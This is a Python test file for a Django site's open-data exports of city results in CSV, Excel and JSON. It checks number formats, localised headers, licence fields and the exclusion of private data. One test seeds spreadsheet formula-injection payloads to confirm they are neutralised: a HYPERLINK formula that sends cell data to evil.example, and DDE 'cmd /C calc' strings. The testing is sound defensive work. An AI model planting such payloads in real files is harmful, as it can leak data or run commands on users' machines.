"""Open-data exports parse back (csv, openpyxl, json) with the right numbers, labels and licence; the CSV in
the spreadsheet conventions of its language (tested on the bytes), formulas from data kept as text."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.web.results_world import SECRET, ResultsWorld, build_results_world

pytestmark = pytest.mark.django_db

PATH = "/{lang}/results/results-net/{round}/export.{fmt}"


@pytest.fixture
def rw(db: Any) -> ResultsWorld:
    return build_results_world()


def download(fmt: str, lang: str = "en", round_slug: str = "2024") -> Any:
    response = Client().get(PATH.format(lang=lang, round=round_slug, fmt=fmt))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert f".{fmt}" in response["Content-Disposition"]
    return response


def read_csv(content: bytes, separator: str = ",") -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def test_csv_in_english_has_commas_decimal_points_and_the_licence_in_columns(rw: ResultsWorld) -> None:
    response = download("csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbfRank,Number of cities,City,City short name,Country,")
    assert response.content.split(b"\r\n")[0].endswith(b",Source,Source address,Note,Licence,Licence address")
    rows = read_csv(response.content)
    assert [(r["Rank"], r["City"], r["Overall score"]) for r in rows] == [
        ("1", "Ankeby", "80.0"),
        ("2", "Birkeby", "70.0"),
        ("2", "Cederby", "70.0"),
        ("4", "Fjordby", "66.0"),
        ("5", "Dalby", "60.0"),
        ("6", "Egeby", "50.0"),
    ]
    cederby = rows[2]
    assert (cederby["Commitment"], cederby["Education"], cederby["Language"]) == ("50.0", "80.0", "55.0")
    assert cederby["Extended index"] == "69.0" and cederby["Number of cities"] == "6"
    assert rows[1]["Education"] == ""  # Birkeby has no education score
    assert rows[3]["Source"] == "Published report 2024" and rows[3]["Commitment"] == ""
    assert {(r["Licence"], r["Licence address"]) for r in rows} == {
        ("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/")
    }


def test_csv_in_danish_opens_in_danish_excel_semicolons_decimal_commas_no_line_above_the_header(
    rw: ResultsWorld,
) -> None:
    content = download("csv", "da").content
    lines = content.split(b"\r\n")
    assert (
        lines[0]
        == (
            "\ufeffPlacering;Antal byer;By;Byens korte navn;Land;Samlet score;Udvidet indeks;Forpligtelse;"
            "Uddannelse;Sprog;Type resultat;Kilde;Kildens adresse;Bemærkning;Licens;Licensens adresse"
        ).encode()
    )
    assert lines[1].startswith(b"1;6;Ankeby;ankeby;DK;80,0;")
    cederby = next(line for line in lines if b";cederby;" in line).split(b";")
    assert cederby[5:10] == [b"70,0", b"69,0", b"50,0", b"80,0", b"55,0"]
    assert lines[-1] == b""  # every row ends with CRLF, nothing after the last
    rows = read_csv(content, ";")
    assert rows[0]["By"] == "Ankeby" and rows[0]["Samlet score"] == "80,0"
    assert rows[0]["Licens"] == "CC BY 4.0"


def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_stays_text(rw: ResultsWorld) -> None:
    from mangfold.web.assessments.models import Assessment

    Assessment.objects.filter(city__slug="fjordby", round__slug="2024").update(
        source='=HYPERLINK("http://evil.example/?x="&A1,"report")',
        source_url="@SUM(1+1)*cmd|' /C calc'!A0",
        note="+cmd|' /C calc'!A0",
    )
    Assessment.objects.filter(city__slug="dalby", round__slug="2024").update(note="-2+3", source="\tx")
    rows = {r["City short name"]: r for r in read_csv(download("csv").content)}
    fjordby, dalby = rows["fjordby"], rows["dalby"]
    assert fjordby["Source"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"report")'
    assert fjordby["Source address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert fjordby["Note"] == "'+cmd|' /C calc'!A0"
    assert dalby["Note"] == "'-2+3" and dalby["Source"] == "'\tx"
    assert fjordby["Overall score"] == "66.0"  # numbers are untouched


@pytest.mark.parametrize(
    ("value", "decimal", "cell"),
    [
        (-15.7, ",", "-15,7"),
        (-15.7, ".", "-15.7"),
        (-3, ",", "-3"),
        (66.25, ",", "66,25"),
        (None, ",", ""),
        ("-15,7", ",", "'-15,7"),
        ("\rx", ",", "'\rx"),
        ("Aarhus", ",", "Aarhus"),
    ],
)
def test_numbers_stay_numbers_and_text_is_neutralised(value: Any, decimal: str, cell: str) -> None:
    from mangfold.web.results.exports import csv_cell

    assert csv_cell(value, decimal) == cell


@pytest.mark.parametrize(
    ("lang", "sheets"), [("en", ["Results", "Licence"]), ("da", ["Resultater", "Licens"])]
)
def test_excel_has_the_results_and_a_licence_sheet(rw: ResultsWorld, lang: str, sheets: list[str]) -> None:
    book = load_workbook(io.BytesIO(download("xlsx", lang).content))
    assert book.sheetnames == sheets
    results, licence = book[sheets[0]], book[sheets[1]]
    header = [cell.value for cell in results[1]]
    rows = [
        dict(zip(header, (cell.value for cell in row), strict=True)) for row in results.iter_rows(min_row=2)
    ]
    city, overall = header[2], header[5]
    assert [(r[city], r[overall]) for r in rows] == [
        ("Ankeby", 80), ("Birkeby", 70), ("Cederby", 70), ("Fjordby", 66), ("Dalby", 60), ("Egeby", 50)
    ]  # fmt: skip
    assert licence["A1"].value == "CC BY 4.0"
    assert "creativecommons.org/licenses/by/4.0" in licence["A2"].value


def test_json_carries_the_licence_the_labels_and_the_scores(rw: ResultsWorld) -> None:
    document = json.loads(download("json", "da").content)
    assert document["licence"]["name"] == "CC BY 4.0"
    assert document["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert document["round"] == {"id": "2024", "name": "Round 2024"}
    labels = {c["key"]: c["label"] for c in document["columns"]}
    assert labels["overall"] == "Samlet score" and labels["education"] == "Uddannelse"
    by_city = {r["city_id"]: r for r in document["results"]}
    assert set(by_city) == {"ankeby", "birkeby", "cederby", "dalby", "egeby", "fjordby"}
    assert by_city["dalby"]["education"] == 40.0 and by_city["dalby"]["rank"] == 5
    assert by_city["birkeby"]["education"] is None
    assert by_city["fjordby"]["source"] == "Published report 2024"


def test_exports_hold_no_unpublished_embargoed_or_private_data(rw: ResultsWorld) -> None:
    for fmt in ("csv", "json"):
        body = download(fmt).content.decode("utf-8-sig")
        assert "Granby" not in body and "Holmby" not in body and SECRET not in body
        assert "evidence" not in body.lower().replace("answers and evidence are not part", "")
    assert json.loads(download("json", round_slug="2025").content)["results"] == []
    assert read_csv(download("csv", round_slug="2025").content) == []


def test_an_unknown_format_is_not_found(rw: ResultsWorld) -> None:
    assert Client().get(PATH.format(lang="en", round="2024", fmt="pdf")).status_code == 404
